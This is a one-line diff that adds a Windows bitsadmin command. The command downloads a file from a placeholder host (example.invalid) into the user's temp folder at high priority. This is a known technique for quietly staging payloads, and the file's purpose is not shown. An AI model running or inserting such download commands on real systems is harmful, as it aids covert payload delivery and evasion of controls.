@@ -1,0 +1,1 @@
+bitsadmin /transfer job /download /priority high http://example.invalid/a %TEMP%\a
